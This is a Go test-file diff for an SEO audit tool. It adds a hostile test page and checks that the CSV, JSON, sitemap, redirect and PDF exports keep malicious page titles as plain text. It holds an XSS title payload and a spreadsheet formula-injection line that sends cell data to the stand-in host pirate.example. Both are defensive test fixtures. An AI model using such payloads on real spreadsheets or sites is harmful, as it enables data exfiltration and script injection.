@@ -3,6 +3,9 @@ package seo
 import (
 	"bytes"
 	"compress/gzip"
+	"encoding/csv"
+	"encoding/json"
+	"encoding/xml"
 	"fmt"
 	"io"
 	"log"
@@ -19,6 +22,9 @@ import (
 	"github.com/formaouest/chaland/warehouse/warehousetest"
 )
 
+// formula is longer than a title should be, so that a finding quotes it.
+const formula = `=HYPERLINK("http://pirate.example/?"&A1;"Cliquez ici pour voir tous nos thés et nos bols")`
+
 const malicious = `Thés <script>alert("x")</script><img src=x onerror=alert(1)>`
 
 // hostileShop has one page for each way in which a server may harm who visits it, beside
@@ -32,7 +38,7 @@ func hostileShop(t *testing.T) *shopSite {
 	hidden := httptest.NewServer(http.NotFoundHandler()) // of another address than the one allowed
 	t.Cleanup(hidden.Close)
 	_, port, _ := strings.Cut(strings.TrimPrefix(hidden.URL, "http://"), ":")
-	s.page("/", "Accueil de la faïencerie", "/bols", "/muet", "/goutte", "/giga", "/gzip", "/latin", "/cadres", "/ligne", "/titre", "/tourne/1", "/agenda/2000-01-01", "/fait-le-tour", "/coupe", "/vide",
+	s.page("/", "Accueil de la faïencerie", "/bols", "/muet", "/goutte", "/giga", "/gzip", "/latin", "/cadres", "/ligne", "/titre", "/formule", "/tourne/1", "/agenda/2000-01-01", "/fait-le-tour", "/coupe", "/vide",
 		untrusted.URL+"/", "http://localhost:"+port+"/admin")
 	s.page("/bols", "Bols à oreilles", "/", "/absente")
 	hold := func(r *http.Request) { <-r.Context().Done() }
@@ -71,6 +77,7 @@ func hostileShop(t *testing.T) *shopSite {
 	s.text("/cadres", "text/html", "<!doctype html><title>Cadres</title>"+strings.Repeat("<iframe src=/cadres></iframe>", 20_000)+strings.Repeat("<div>", 20_000))
 	s.text("/ligne", "text/html", "<!doctype html><html lang=fr><title>Une ligne</title><p>"+strings.Repeat("mot ", 10<<18))
 	s.page("/titre", strings.NewReplacer("<", "&lt;", ">", "&gt;").Replace(malicious), "/")
+	s.page("/formule", formula, "/")
 	s.set("/coupe", func(w http.ResponseWriter, r *http.Request) {
 		w.Header().Set("Content-Type", "text/html")
 		w.Header().Set("Content-Length", "100000")
@@ -140,8 +147,8 @@ func TestAHostileSiteIsSurvivedReportedAndCounted(t *testing.T) {
 	titlesAreText(t, later)
 }
 
-// titlesAreText looks for the malicious title in every export: there as a text, nowhere as
-// markup.
+// titlesAreText looks for the malicious titles in every export: there as texts, nowhere as
+// markup, as a formula or as an instruction of a server.
 func titlesAreText(t *testing.T, a *Audit) {
 	t.Helper()
 	if got := a.page(t, "/titre").Title; got != malicious {
@@ -167,10 +174,58 @@ func titlesAreText(t *testing.T, a *Audit) {
 			if err != nil || !slices.ContainsFunc(rows, func(row []string) bool { return slices.Contains(row, malicious) }) {
 				t.Errorf("the workbook does not hold the title as it is, %v", err)
 			}
+		case "csv", "redirects":
+			cells := cellsOf(t, f.Name, raw)
+			if f.Name == "csv" && (!slices.Contains(cells, malicious) || !slices.Contains(cells, "'"+formula)) {
+				t.Error("the table does not hold the titles as texts")
+			}
+			if at := slices.IndexFunc(cells, func(cell string) bool { return cell != "" && strings.ContainsRune("=+@\t\r", rune(cell[0])) }); at >= 0 {
+				t.Errorf("a spreadsheet runs a cell of %s: %s", f.Name, cells[at])
+			}
+		case "json":
+			var told struct {
+				Pages []struct{ URL, Title string }
+			}
+			if err := json.Unmarshal(raw, &told); err != nil {
+				t.Fatalf("JSON: %v", err)
+			}
+			titles := map[string]string{}
+			for _, p := range told.Pages {
+				titles[p.URL[strings.LastIndex(p.URL, "/"):]] = p.Title
+			}
+			if titles["/titre"] != malicious || titles["/formule"] != formula {
+				t.Errorf("JSON tells the titles %q and %q", titles["/titre"], titles["/formule"])
+			}
+		case "sitemap":
+			var told struct {
+				Addresses []string `xml:"url>loc"`
+			}
+			if err := xml.Unmarshal(raw, &told); err != nil || !slices.ContainsFunc(told.Addresses, func(a string) bool { return strings.HasSuffix(a, "/titre") }) {
+				t.Errorf("the sitemap: %v, %v", err, told.Addresses)
+			}
+		case "redirects-apache", "redirects-nginx":
+			if bytes.Contains(raw, []byte("script")) || bytes.Contains(raw, []byte("HYPERLINK")) {
+				t.Errorf("%s holds a title among its instructions", f.Name)
+			}
+		case "text": // what a terminal shows is a text
+		default:
+			t.Errorf("nobody looks at the titles in %s", f.Name)
 		case "pdf":
 			if !bytes.HasPrefix(raw, []byte("%PDF")) || bytes.Contains(raw, []byte("/JavaScript")) || bytes.Contains(raw, []byte("/JS ")) {
 				t.Error("the PDF runs something")
 			}
 		}
 	}
+}
+
+// cellsOf are the cells of a table for a French spreadsheet.
+func cellsOf(t *testing.T, name string, raw []byte) (cells []string) {
+	t.Helper()
+	table := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(raw, []byte("\ufeff"))))
+	table.Comma = ';'
+	rows, err := table.ReadAll()
+	if err != nil {
+		t.Fatalf("%s: %v", name, err)
+	}
+	return slices.Concat(rows...)
 }
